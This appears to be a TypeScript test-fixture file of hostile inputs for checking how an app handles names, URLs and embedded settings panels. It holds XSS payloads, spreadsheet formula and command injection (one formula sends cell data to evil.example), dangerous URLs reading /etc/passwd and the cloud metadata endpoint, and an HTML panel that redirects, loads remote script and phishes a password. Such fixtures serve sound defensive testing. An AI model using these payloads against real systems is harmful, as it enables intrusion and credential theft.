/**
 * Names that try to be something else. Characters that cannot be seen are written as escapes, so that this file
 * itself can be read.
 */
export const HOSTILE_NAMES = {
  bidi: 'Dublin\u202Egnp.exe',
  'zero-width': 'Dub\u200Blin',
  // Cyrillic а and і in "Virginia".
  'look-alike': 'V\u0456rgini\u0430',
  'right-to-left': '\u05DE\u05E8\u05D0\u05D4 \u0645\u0631\u0622\u0629',
  long: `Long ${'name '.repeat(799)}`,
  markup: '<script>globalThis.polluted = true</script><img src=x onerror=alert(1)>',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  command: "=cmd|' /C calc'!A0",
  controls: 'Bell\u0007 \u001B[31mred\u001B[0m\r\nSet-Cookie: a=b',
  combining: `Z\u0351\u036B\u0343${'\u0300'.repeat(60)}algo`,
  blank: '\u00A0\u2003\u3164',
} as const satisfies Record<string, string>

/** Addresses that are no mirror's address. */
export const HOSTILE_ADDRESSES = {
  script: 'javascript:alert(document.domain)',
  data: 'data:text/html,<script>alert(1)</script>',
  'tab-split': 'java\tscript:alert(1)',
  'control-first': '\u0001javascript:alert(1)',
  'user-info': 'https://bitbucket.example.com@evil.example',
  // The ASCII form of a host that reads "apple.com" in Cyrillic letters.
  punycode: 'https://xn--80ak6aa92e.com',
  metadata: 'http://169.254.169.254/latest/meta-data',
  'mapped-loopback': 'http://[::ffff:127.0.0.1]:7990',
  file: 'file:///etc/passwd',
  relative: '//evil.example/mirror',
} as const satisfies Record<string, string>

/** A settings panel that attacks the page that shows it. */
export const HOSTILE_PANEL = `<!doctype html><title>Settings</title>
<script>top.location = 'https://evil.example/'; fetch('https://evil.example/script')</script>
<img src="https://evil.example/image" onerror="parent.polluted = true">
<style>@import url(https://evil.example/style); body { background: url(https://evil.example/background) }</style>
<form action="https://evil.example/form"><label>Session expired. Password <input type="password" name="p"></label>
<button>Sign in</button></form>
<a href="https://evil.example/link" target="_top">Continue</a><meta http-equiv="refresh" content="0;url=https://evil.example/">`
